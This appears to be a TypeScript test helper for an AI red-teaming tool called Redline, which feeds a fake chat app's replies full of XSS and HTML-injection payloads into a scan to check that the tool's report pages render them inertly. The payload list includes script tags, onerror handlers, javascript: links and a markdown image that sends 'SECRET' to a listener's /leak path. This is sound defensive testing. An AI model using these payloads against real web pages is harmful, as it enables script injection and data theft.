import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect } from 'vitest';
import { replyJson, startLocalServer } from './local-server.js';
import { runCli } from './run-cli.js';

/** What a payload writes when its script runs. */
export const MARK = 'REDLINE-XSS-RAN';

/** Elements that could load or run something; Redline's pages have none of them in what they show. */
export const ACTIVE_ELEMENTS = 'iframe, img, object, embed, base, a[href^="javascript:" i], meta[http-equiv="refresh" i], [onerror], [onload]';

/** Payloads that would load something from `listener` or run script if a page let them through. */
export function payloads(listener: string): string[] {
  const js = `document.title='${MARK}';console.log('${MARK}');window.pwned=1`;
  return [
    `![x](${listener}/leak?d=SECRET)`,
    `<img src=${listener}/img>`,
    `<img src=x onerror="${js}">`,
    `<script>fetch('${listener}/script');${js}</script>`,
    `<link rel=stylesheet href=${listener}/link.css>`,
    `<style>body{background:url(${listener}/css-url)}@import url(${listener}/css-import);</style>`,
    `<div style="background-image:url('${listener}/inline-style')">styled</div>`,
    `<iframe src="${listener}/iframe"></iframe>`,
    `<a href="javascript:${js}">click me</a>`,
    `<svg xmlns="http://www.w3.org/2000/svg" onload="${js}"><image href="${listener}/svg-image"/></svg>`,
    `<meta http-equiv="refresh" content="0;url=${listener}/refresh">`,
    `<object data="${listener}/object"></object><embed src="${listener}/embed">`,
    `<base href="${listener}/base/"><form action="${listener}/form"><button>go</button></form>`,
    `"><img src=${listener}/attr-break>'><script>${js}</script>`,
    `</pre></details><script>${js}</script><pre>`,
  ];
}

/**
 * Scans a fake app whose goals, categories, id and every reply carry the payloads, into a project folder's
 * database; `closers` gets the app's close.
 */
export async function hostileScan(listener: string, closers: (() => Promise<void>)[]): Promise<{ dir: string; runId: string; db: string }> {
  const hostile = payloads(listener);
  const app = await startLocalServer((reply) => replyJson(reply, { body: { output: hostile.join('\n') } }));
  closers.push(app.close);
  const dir = mkdtempSync(join(tmpdir(), 'redline-hostile-'));
  writeFileSync(join(dir, 'redline.yaml'), JSON.stringify({
    target: { type: 'http', url: `${app.url}/chat`, responsePath: '$.output', id: `app${hostile[1]}` },
    // One goal per category, so every reply is shown as an example transcript.
    goals: hostile.map((text, i) => ({ id: `g${i}${hostile[13]}`, text, category: `c${i} ${text}` })),
    techniques: ['direct-request'],
    converters: [[]],
    trials: 1,
    concurrency: 4,
    retry: { maxRetries: 0 },
    scoring: { scorers: ['refusal'] },
  }));
  const scanned = await runCli(['scan', '--no-progress', '--no-reports'], { cwd: dir });
  expect(scanned.code, scanned.stderr).toBe(0);
  const runId = /run (r-\S+):/.exec(scanned.stderr)![1]!;
  return { dir, runId, db: join(dir, '.redline', 'redline.db') };
}
